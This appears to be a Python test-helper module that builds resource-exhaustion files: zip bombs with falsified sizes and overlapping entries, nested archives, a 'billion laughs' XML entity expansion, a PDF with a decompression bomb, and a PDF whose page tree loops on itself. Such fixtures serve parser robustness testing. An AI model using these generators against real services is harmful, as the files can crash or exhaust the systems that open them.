"""Files made to hurt, as small as their effect is large. No tool that makes such is needed."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping, Sequence

MIB = 1024 * 1024
_CENTRAL = b"PK\x01\x02"


def zeros(mebibytes: int, wbits: int = -15) -> bytes:
    """Deflate of so many MiB of zeros, a thousandth of that; made without making those."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, wbits)
    first = squeeze.compress(bytes(MIB)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    more = squeeze.compress(bytes(MIB)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing refers back: the same bytes may come again and again.
    return first + more * (mebibytes - 1) + squeeze.flush()


def packed(members: Mapping[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def lying(members: Mapping[str, bytes | str], name: str, mebibytes: int) -> bytes:
    """An archive whose member `name` holds so many MiB and states ten bytes, everywhere."""
    stream = zeros(mebibytes)
    out = io.BytesIO(packed(members))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as archive:
        info = zipfile.ZipInfo(name)
        archive.writestr(info, stream)
    data = bytearray(out.getvalue())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        offset = archive.getinfo(name).header_offset
    central = data.rindex(_CENTRAL)
    for place in (offset + 8, central + 10):
        data[place : place + 2] = struct.pack("<H", zipfile.ZIP_DEFLATED)
    for place in (offset + 22, central + 24):
        data[place : place + 4] = struct.pack("<L", 10)
    return bytes(data)


def overlapping(members: Mapping[str, bytes | str], kernel: bytes, copies: int) -> bytes:
    """An archive with one more member, named in its directory `copies` times under other names."""
    out = io.BytesIO(packed(members))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/x000.bin", kernel)
    data = out.getvalue()
    entry_at = data.rindex(_CENTRAL)
    end_at = data.rindex(b"PK\x05\x06")
    entry = data[entry_at:end_at]
    entries = b"".join(entry.replace(b"x000", b"x%03d" % n) for n in range(1, copies))
    end = bytearray(data[end_at:])
    count, size = struct.unpack("<H", end[10:12])[0], struct.unpack("<L", end[12:16])[0]
    end[8:12] = struct.pack("<HH", count + copies - 1, count + copies - 1)
    end[12:16] = struct.pack("<L", size + len(entries))
    return data[:end_at] + entries + bytes(end)


def nested(levels: int, content: bytes) -> bytes:
    """An archive in an archive, `levels` of them, `content` in the innermost."""
    inner = packed({"a.txt": content})
    for level in range(levels - 1):
        inner = packed({f"{level}-{n}.zip": inner for n in range(3)})
    return inner


def laughs(body: str, root: str = "x") -> str:
    """A document type with entities that grow tenfold nine times, before `body`."""
    layers = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "ha">{layers}]>{body}'


def pdf(objects: Sequence[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\n" % (len(objects) + 1)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def pdf_of_stream(stream: bytes) -> bytes:
    """One page, its content the Flate `stream`."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<>>>>",
            b"<</Filter/FlateDecode/Length %d>>stream\n" % len(stream) + stream + b"\nendstream",
        ]
    )


def looping_pdf() -> bytes:
    """A page tree whose only branch is its own root."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/Outlines 3 0 R>>",
            b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000/Parent 2 0 R>>",
            b"<</Type/Outlines/First 4 0 R/Last 4 0 R/Count 1>>",
            b"<</Title(loop)/Parent 3 0 R/Next 4 0 R/First 4 0 R>>",
        ]
    )
